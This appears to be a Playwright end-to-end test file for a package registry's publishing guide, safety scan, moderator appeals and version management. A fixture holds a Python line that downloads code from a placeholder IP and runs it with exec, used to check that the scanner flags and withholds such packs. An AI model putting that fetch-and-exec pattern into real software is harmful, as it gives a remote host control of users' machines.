import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { answerAppeal, listAppeals, yankVersion } from '@nodeyard/contract/packs'
import { moderateVersion } from '@nodeyard/contract/safety'
import type { Page } from 'playwright-core'
import { asAdmin } from '../server/test/admin.ts'
import { publish } from '../server/test/command-line-client.ts'
import { buildPack } from '../server/test/pack.ts'
import { signUp } from './people.ts'
import { useProduct } from './product.ts'

const holder = useProduct()
const downloadsCode = 'import requests\n\n\ndef run():\n    exec(requests.get("http://203.0.113.9/x").text)\n'

/** Creates a publisher on the guide's page. */
async function createPublisher(page: Page, id: string): Promise<void> {
  await page.getByLabel('Publisher id').fill(id)
  await page.getByRole('button', { name: 'Create', exact: false }).last().click()
  await page.waitForURL(`**/docs/publish?publisher=${id}#step-3`)
}

/** Creates a token on the guide's page and reads it there. */
async function tokenFrom(page: Page): Promise<string> {
  await page.getByRole('button', { name: 'Create a token' }).click()
  const secret = page.locator('code', { hasText: /^nyp_/ })
  return (await secret.textContent()) ?? assert.fail('no token')
}

const release = (token: string, version: string, files: Record<string, string> = {}) =>
  publish({
    apiUrl: holder.product.apiUrl,
    publisherId: 'ada-nodes',
    nodeId: 'ada-blur',
    token,
    version,
    node: { name: 'Ada Blur' },
    archive: buildPack({ id: 'ada-blur', version, files }),
  })

const done = (page: Page, step: string) =>
  page.getByRole('region', { name: step }).getByText('Done', { exact: true })

describe('the publishing guide', () => {
  it('leads a new user to a published node, with flagged lines discussed, fixed and listed', async () => {
    // The id that was just taken is checked again.
    const { page } = await holder.product.visit({ expectedComplaints: /publishers\/create.* 400 / })
    await signUp(page, '/docs/publish')
    await done(page, '1. An account').waitFor()
    await createPublisher(page, 'ada-nodes')
    await done(page, '2. A publisher').waitFor()
    const token = await tokenFrom(page)
    await done(page, '3. A token').waitFor()
    await page.getByLabel('Id of your pack').fill('ada-blur')
    await page.getByText('PublisherId = "ada-nodes"').waitFor()
    await page.getByRole('radio', { name: 'CI without a secret' }).check()
    await page.getByText('id-token: write').waitFor()
    await holder.product.picture(page, 'how-to-publish')

    await release(token, '1.0.0', { 'fetch.py': downloadsCode })
    await page.goto('/nodes/ada-blur/manage/versions/1.0.0')
    await page.getByRole('status').getByText('starts as soon as there is a free slot').waitFor()
    await holder.product.world.runJobs()
    await page.getByText('something a moderator has to look at').waitFor()
    const finding = page.getByRole('listitem').filter({ hasText: 'How to fix it' }).first()
    // The steps of the value name lines, too.
    await finding.getByRole('link', { name: 'fetch.py:5' }).first().waitFor()
    assert.match((await finding.textContent()) ?? '', /exec\(/)
    await holder.product.picture(page, 'flagged-version')

    await page.getByLabel('Message to the moderators').fill('It is our own server.')
    await page.reload()
    await page.getByText('Your unsaved changes are still here').waitFor()
    await page.getByRole('button', { name: 'Send' }).click()
    await page.getByText('Waiting for an answer for').waitFor()
    const moderators = await asAdmin(holder.product.world)
    const [waiting] = (await moderators.call(listAppeals)).appeals
    assert.equal(waiting?.lastMessage.text, 'It is our own server.')
    const params = { nodeId: 'ada-blur', version: '1.0.0' }
    await moderators.call(answerAppeal, { params, body: { text: 'Ship the code with your node.' } })
    await page.getByText('Ship the code with your node.').waitFor()
    await holder.product.picture(page, 'appeal')

    await release(token, '1.0.1')
    await page.goto('/nodes/ada-blur/manage/versions/1.0.1')
    await page.getByText('This page updates by itself').waitFor()
    await holder.product.world.runJobs()
    await page.getByText('This version is listed and can be installed. It took').waitFor()
    await moderators.call(moderateVersion, {
      params,
      body: { status: 'NodeVersionStatusBanned', status_reason: 'It runs what it downloads.' },
    })
    await page.getByRole('link', { name: 'Versions', exact: true }).click()
    await page.getByRole('link', { name: '1.0.0' }).click()
    await page.getByText('It runs what it downloads.').waitFor()
    await page.goto('/docs/publish')
    await done(page, '5. Watch the checks').waitFor()
    const live = page.getByRole('region', { name: '5. Watch the checks' })
    await live.getByText('Your pack is live').waitFor()
    await live.getByText('nodeyard.tgz install ada-blur').waitFor()
    await live.getByText('/badges/ada-blur/version.svg').waitFor()
    await live.getByRole('link', { name: '/nodes/ada-blur' }).click()
    await page.getByRole('heading', { level: 1, name: 'Ada Blur' }).waitFor()
  })

  it('edits a node, deprecates, yanks and deletes its versions, shows its installs and deletes it by name', async () => {
    const { world } = holder.product
    const { page } = await holder.product.visit({ expectedComplaints: /400/ })
    const email = await signUp(page, '/docs/publish')
    const owner = await world.deps.db
      .selectFrom('users')
      .selectAll()
      .where('email', '=', email)
      .executeTakeFirstOrThrow()
    await world.given.publisher({ id: 'bo-nodes', owner })
    await world.given.node({
      id: 'taken',
      repository_url: 'https://github.com/x/y',
      repository_key: 'github.com/x/y',
    })
    await world.given.node({ id: 'bo-grain', publisher_id: 'bo-nodes', name: 'Bo Grain' })
    const versions = []
    for (const version of ['1.0.0', '1.1.0'])
      versions.push(await world.given.version({ node_id: 'bo-grain', version }))
    for (const { id } of versions) world.deps.installs.count('bo-grain', id)
    await world.deps.installs.flush()

    await page.goto('/nodes/bo-grain')
    await page.getByRole('link', { name: 'Manage' }).click()
    await page.getByLabel('Description').fill('Grain like film.')
    await page.getByLabel('Repository').fill('https://github.com/x/y')
    await page.getByRole('button', { name: 'Save' }).click()
    await page.getByRole('alert').waitFor()
    assert.equal(await page.getByLabel('Description').inputValue(), 'Grain like film.')
    await page.getByLabel('Repository').fill('')
    await page.getByRole('button', { name: 'Save' }).click()
    await page.getByText('Saved.').waitFor()
    await holder.product.picture(page, 'node-details')

    await page.goto('/nodes/bo-grain/manage/versions/1.0.0')
    await page.getByLabel('What people should know').fill('Use 1.1.0.')
    await page.getByRole('button', { name: 'Deprecate' }).click()
    await page.getByText('Version deprecated.').waitFor()
    await page.getByLabel('Reason (public)').fill('Crashes.')
    await page.getByRole('button', { name: 'Yank' }).click()
    await page.getByRole('button', { name: 'Undo the yank' }).waitFor()
    await holder.product.picture(page, 'version-acts')
    await page.getByRole('button', { name: 'Delete version' }).click()
    await page.getByRole('dialog').getByText('It was installed 1 time').waitFor()
    await page.getByRole('dialog').getByRole('textbox').fill('1.0.0')
    await page.getByRole('dialog').getByRole('button', { name: 'Delete version' }).click()
    await page.getByText('Its number cannot be reused').waitFor()

    await page.goto('/nodes/bo-grain/manage/statistics')
    await page.getByText('2 installs').waitFor()
    await page.getByText('Show as a table').click()
    await holder.product.picture(page, 'node-statistics')
    await page.getByRole('link', { name: 'Delete pack' }).click()
    await page.getByRole('button', { name: 'Delete pack' }).click()
    const dialog = page.getByRole('dialog')
    await dialog.getByText('1 version is deleted with it.').waitFor()
    await dialog.getByRole('textbox').fill('bo-grain')
    await holder.product.picture(page, 'delete-node')
    await dialog.getByRole('button', { name: 'Delete pack' }).click()
    await page.waitForURL('**/nodes')
  })

  it('shows a held-back pack to its owner only, and explains why a once public one cannot be installed', async () => {
    const { page } = await holder.product.visit({ expectedComplaints: /404|publishers\/create.* 400 / })
    const { page: stranger } = await holder.product.visit({ expectedComplaints: /404|\/eve-blur.* 403 / })
    await signUp(page, '/docs/publish')
    await createPublisher(page, 'eve-nodes')
    await page.goto('/docs/publish')
    const token = await tokenFrom(page)
    const send = (version: string, files: Record<string, string> = {}) =>
      publish({
        apiUrl: holder.product.apiUrl,
        publisherId: 'eve-nodes',
        nodeId: 'eve-blur',
        token,
        version,
        archive: buildPack({ id: 'eve-blur', version, files }),
      })
    const { world } = holder.product
    const offers = async (of: Page) =>
      /git clone|nodeyard.tgz install/.test(await of.getByRole('main').innerText())

    await send('1.0.0', { 'fetch.py': downloadsCode })
    await world.runJobs()
    await stranger.goto('/nodes/eve-blur')
    await stranger.getByText('404').waitFor()
    await page.goto('/nodes/eve-blur')
    await page.getByText('This pack is held for review').waitFor()
    assert.equal(await offers(page), false)

    await send('1.0.1')
    await world.runJobs()
    await stranger.goto('/nodes/eve-blur')
    await stranger.getByText('nodeyard.tgz install eve-blur').first().waitFor()

    await send('1.0.2', { 'fetch.py': downloadsCode })
    await world.runJobs()
    await stranger.goto('/nodes/eve-blur')
    await stranger.getByText('Version 1.0.2 is held for review').waitFor()
    await stranger.getByText('The latest listed version is 1.0.1.').waitFor()
    await stranger.getByRole('link', { name: 'About this version' }).click()
    await stranger.getByText('This version is held for review').waitFor()
    await stranger.getByText('only its publisher and moderators can install this version').waitFor()
    assert.equal(await offers(stranger), false)
    const source = '/nodes/eve-blur/versions/1.0.2/source?file=fetch.py'
    await stranger.goto(source)
    await stranger.getByText('only its publisher and moderators can read the files').waitFor()
    await page.goto(source)
    await page.getByText('203.0.113.9').first().waitFor()
    await world.deps.db
      .updateTable('node_versions')
      .set({ status: 'deleted' })
      .where('node_id', '=', 'eve-blur')
      .where('version', 'in', ['1.0.0', '1.0.2'])
      .execute()
    const yank = await world.deps.db
      .selectFrom('node_versions')
      .select('id')
      .where('node_id', '=', 'eve-blur')
      .where('version', '=', '1.0.1')
      .executeTakeFirstOrThrow()
    // The token of the guide only publishes.
    const { secret } = await world.given.token({ publisher_id: 'eve-nodes' })
    await world.anonymous.call(yankVersion, {
      params: { publisherId: 'eve-nodes', nodeId: 'eve-blur', versionId: yank.id },
      body: { reason: 'It crashes on small pictures.', personal_access_token: secret },
    })
    await stranger.goto('/nodes/eve-blur')
    await stranger.getByText('The publisher has withdrawn its versions').waitFor()
    await stranger.getByText('It crashes on small pictures.').waitFor()
    assert.equal(await offers(stranger), false)
    await holder.product.picture(stranger, 'withdrawn-node')
  })

  it('shows guide and findings in Arabic, on a phone, in the dark theme', async () => {
    const { world } = holder.product
    const { page } = await holder.product.visit({
      viewport: { width: 390, height: 844 },
      colorScheme: 'dark',
    })
    const email = await signUp(page, '/docs/publish')
    const owner = await world.deps.db
      .selectFrom('users')
      .selectAll()
      .where('email', '=', email)
      .executeTakeFirstOrThrow()
    await world.given.publisher({ id: 'cy-nodes', owner })
    const node = await world.given.node({ id: 'cy-fog', publisher_id: 'cy-nodes', name: 'ضباب' })
    const version = await world.given.version({ node_id: node.id, status: 'flagged' })
    const finding = {
      rule: 'downloaded-code',
      severity: 'critical',
      message: '`exec` runs what comes from the network.',
      file_path: 'fetch.py',
      line_number: 5,
      code_snippet: 'exec(requests.get(url).text)',
      why: 'Whoever controls that address controls the machine.',
      fix: 'Ship the code with your node.',
    }
    await world.given.analysis({ version_id: version.id, findings: JSON.stringify([finding]) })
    await page.goto('/ar/nodes/cy-fog/manage/versions/1.0.0')
    await page.getByText('كيف تصلحه').waitFor()
    await page.getByLabel('رسالة إلى المشرفين').fill('هذا خادمنا.')
    await page.getByRole('button', { name: 'إرسال' }).click()
    await page.getByText('في انتظار الجواب').waitFor()
    await holder.product.picture(page, 'ar-flagged-version')
    await page.goto('/ar/docs/publish')
    await page.getByRole('heading', { name: 'انشر حزمة' }).waitFor()
    await page.getByText('cy-nodes').first().waitFor()
    await holder.product.picture(page, 'ar-how-to-publish')
  })
})
